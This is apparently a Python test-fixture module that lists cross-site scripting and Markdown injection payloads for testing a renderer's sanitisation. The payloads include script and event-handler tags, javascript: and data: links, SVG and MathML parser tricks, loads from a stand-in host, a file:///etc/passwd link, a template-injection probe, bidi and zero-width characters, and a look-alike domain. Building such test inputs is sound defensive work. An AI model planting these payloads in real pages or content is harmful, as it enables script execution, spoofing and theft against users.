"""Hostile texts, one line each: what somebody could write into a note, a source or a record.

Each tries to run `CODE`, to load from `HOST`, to lead the reader away or to break the page's frame.
`FIRES` are those that do so where a page holds them raw: the control of the tests.
"""

from __future__ import annotations

HOST = "https://canary.invalid"
CODE = "window.canary=1"

FIRES = {
    "a script": f"<script>{CODE}</script>",
    "a script in capitals": f"<ScRiPt>{CODE}</sCrIpT>",
    "a script from elsewhere": f"<script src={HOST}/a.js></script>",
    "a script that ends what is around it": f"</code></pre></script></style></title>-->]]>"
    f"<script>{CODE}</script>",
    "a handler of an image": f"<img src=x onerror={CODE}>",
    "a handler in quotes": f"\"'><img src=x onerror='{CODE}'>",
    "a handler with slashes for spaces": f"<img/src='x'/onerror={CODE}>",
    "a handler that is left open": f'<img src=x onerror={CODE} x="><b title="',
    "a handler on load": f"<body onload={CODE}>",
    "a handler of a pointer": f"<b onmouseover={CODE}>over</b>",
    "focus": f"<input autofocus onfocus={CODE}>",
    "what can be focused": f"<b tabindex=1 onfocus={CODE}>focus</b>",
    "a link that runs": f"<a href=javascript:{CODE}>x</a>",
    "a link in mixed case": f"<a href=JaVaScRiPt:{CODE}>x</a>",
    "a link of entities": f"<a href='&#106;&#x61;vascript:{CODE}'>x</a>",
    "a link with a tab in it": f"<a href='java&Tab;script:{CODE}'>x</a>",
    "a link behind a control": f"<a href='\x01javascript:{CODE}'>x</a>",
    "a drawing that loads": f"<svg onload={CODE}></svg>",
    "a drawing with a script": f"<svg><script>{CODE}</script></svg>",
    "a drawing with a foreign object": f"<svg><foreignObject><img src=x onerror={CODE} /></svg>",
    "a drawing that links": f"<svg><a href='javascript:{CODE}'><text y=9>x</text></a></svg>",
    "a drawing that moves": f"<svg><animate onbegin={CODE} attributeName=x dur=1s></svg>",
    "mathematics with a handler": f"<math><mtext><img src=x onerror={CODE}></mtext></math>",
    "mathematics that hides a style": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={CODE}&gt;' onerror={CODE} src=x>",
    "a style from elsewhere": f"<style>@import '{HOST}/a.css';</style>",
    "a ground from elsewhere": f'<b style="background:url({HOST}/a.png)">x</b>',
    "a sheet from elsewhere": f"<link rel=stylesheet href={HOST}/a.css>",
    "an image from elsewhere": f"<img src={HOST}/a.png>",
    "an image by a set": f"<img srcset='{HOST}/a.png 1x'>",
    "a video's poster": f"<video poster={HOST}/a.png></video>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    "another base": f"<base href={HOST}/><img src=a.png>",
    "a frame": f"<iframe src={HOST}/></iframe>",
    "a frame of a document": f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    "a frame that runs": f"<iframe src='javascript:parent.{CODE}'></iframe>",
    "an object": f"<object data={HOST}/a></object>",
    "an embedded thing": f"<embed src={HOST}/a>",
    "a form": f"<form action=javascript:{CODE}><button>x</button></form>",
    "a form's button": f"<form><button formaction=javascript:{CODE}>x</button></form>",
    "details that open": f"<details open ontoggle={CODE}><summary>x</summary></details>",
    "a comment that ends early": f"<!--><img src=x onerror={CODE}>-->",
    "a section of characters": f"<![CDATA[><img src=x onerror={CODE}>]]>",
    "a template": f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
    "a name of the document": f"<img name=body id=search src=x onerror={CODE}>",
}
"""Raw HTML. In a note it is text, and so it is in whatever else a page shows."""

NOTES = {
    "a link of Markdown": f"[x](javascript:{CODE})",
    "a link of Markdown in mixed case": f"[x](JavaScript:{CODE})",
    "a link of Markdown of entities": f"[x](&#106;avascript&colon;{CODE})",
    "a link of Markdown with a percent": f"[x](javascript%3A{CODE})",
    "a link of Markdown between brackets": f"[x](<java\tscript:{CODE}>)",
    "a link to data": f"[x](data:text/html,<script>{CODE}</script>)",
    "a link to data of another kind": "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "an old script's link": "[x](vbscript:msgbox(1))",
    "a link to a file": "[x](file:///etc/passwd)",
    "a link without a scheme": "[x](//canary.invalid/)",
    "a title that breaks out": f"[x](https://example.org/ '\"><img src=x onerror={CODE}>')",
    "a definition": f'[x][y]\n\n[y]: javascript:{CODE} "\'><script>{CODE}</script>"',
    "an automatic link": f"<javascript:{CODE}>",
    "an image": f"![x]({HOST}/a.png)",
    "an image with a script": f"![x](javascript:{CODE})",
    "an image by a definition": f"![x][z]\n\n[z]: {HOST}/b.png",
    "a fence in a fence": f"````\n```\n</code></pre><script>{CODE}</script>\n```\n````",
    "a fence's language": f'```"><script>{CODE}</script>\nx\n```',
    "a fence that is left open": f"```\n</code></pre><img src=x onerror={CODE}>",
    "a table of handlers": f"| <b onclick={CODE}>a</b> |\n|-|\n| <img src=x onerror={CODE}> |",
    "a template's value": "{{ 7*7 }} {% raw %} {# x #} {{ self.__init__.__globals__ }}",
    "entities": f"&lt;script&gt;{CODE}&lt;/script&gt; &#60;img src=x onerror={CODE}&#62;",
    "entities of entities": f"&amp;lt;img src=x onerror={CODE}&amp;gt;",
    "a zero": f"a\x00b &#0; <im\x00g src=x onerror={CODE}>",
    "a reversed order": "a\u202etxt.exe\u202c &#x202e; \u2066x\u2069",
    "no width": "a\u200bb\ufeffc\u2060d\u00ade\u180ef\U000e0041g\u3164h",
    "a host that looks alike": "<https://g\u0456thub.com/a>",
    "a heading with a name": f"# x {{#search onclick={CODE}}}",
    "a very long word": "w" * 2_000,
    "line separators": f"a\u2028</script><script>{CODE}</script>\u2029b",
}
"""Markdown, and text that is no markup anywhere."""

ALL = {**FIRES, **NOTES}

LINE = " ¦ ".join(text.replace("\n", " ").replace("w" * 2_000, "w" * 50) for text in ALL.values())
"""All of it as one line, for whatever is shown as text."""
